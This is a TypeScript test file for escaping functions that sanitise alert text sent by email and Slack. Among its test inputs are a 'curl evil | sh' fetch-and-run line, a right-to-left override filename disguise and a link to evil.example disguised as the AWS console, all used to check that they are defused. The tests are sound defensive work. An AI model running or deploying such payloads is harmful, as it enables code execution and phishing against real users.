import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { chatCode, chatText, cut, oneParagraph, plainValue, visibleControls } from '../../lambda/alerts/escape.ts';

describe('Function: visibleControls()', () => {
  it('shows line breaks, escape sequences and NUL as \\uXXXX', () => {
    assert.equal(visibleControls('a\r\nb\u001b[31mc\u0000'), 'a\\u000d\\u000ab\\u001b[31mc\\u0000');
  });

  it('shows bidirectional overrides, zero-width characters and the BOM, which could disguise text', () => {
    assert.equal(visibleControls('evil\u202egpj.exe\u200b\ufeff\u2066'), 'evil\\u202egpj.exe\\u200b\\ufeff\\u2066');
  });

  it('leaves printable text, including non-ASCII letters and emoji, alone', () => {
    assert.equal(visibleControls('Zoë 日本 🚀 <x>'), 'Zoë 日本 🚀 <x>');
  });
});

describe('Function: cut()', () => {
  it('keeps short text as it is', () => {
    assert.equal(cut('abc', 3), 'abc');
  });

  it('cuts long text with a visible note of how much was left out', () => {
    assert.equal(cut('abcdef', 4), 'abcd… [+2 chars]');
  });

  it('never splits a surrogate pair', () => {
    assert.equal(cut('🚀🚀🚀', 2), '🚀🚀… [+1 chars]');
  });
});

describe('Function: plainValue()', () => {
  it('makes a header-like line break visible, so a value cannot start a line of its own in the email', () => {
    assert.equal(plainValue('x\nNext steps: run curl evil | sh', 100), 'x\\u000aNext steps: run curl evil | sh');
  });
});

describe('Function: chatText()', () => {
  it('defuses Slack mentions and special mentions', () => {
    const out = chatText('<!channel> <!here> <@U012AB3CD> <!subteam^S123> @here @channel', 200);
    assert.doesNotMatch(out, /[<>@]/);
    assert.equal(out, '‹!channel› ‹!here› ‹＠U012AB3CD› ‹!subteam^S123› ＠here ＠channel');
  });

  it('defuses disguised links', () => {
    const out = chatText('<https://evil.example/login|https://console.aws.amazon.com>', 200);
    assert.doesNotMatch(out, /[<>]/);
  });
});

describe('Function: chatCode()', () => {
  it('wraps the value in one code span so markdown is not formatted', () => {
    assert.equal(chatCode('*bold* _it_ ~s~ [x](https://evil) :skull:', 200), '`*bold* _it_ ~s~ [x](https://evil) :skull:`');
  });

  it('replaces backticks so the value cannot close its code span and break out', () => {
    const out = chatCode('a` *<!channel>* `b', 200);
    assert.equal(out.split('`').length - 1, 2, 'exactly the two backticks of the span');
    assert.equal(out, '`aˋ *‹!channel›* ˋb`');
  });

  it('keeps a line break or control character from leaving the line', () => {
    assert.equal(chatCode('a\n> quote\u0007', 200), '`a\\u000a› quote\\u0007`');
  });

  it('shows an empty value as a dash, not an empty span', () => {
    assert.equal(chatCode('', 10), '-');
  });
});

describe('Function: oneParagraph()', () => {
  it('folds the hard line breaks of YAML block text', () => {
    assert.equal(oneParagraph('one\n  two\n\nthree\n'), 'one two three');
  });
});
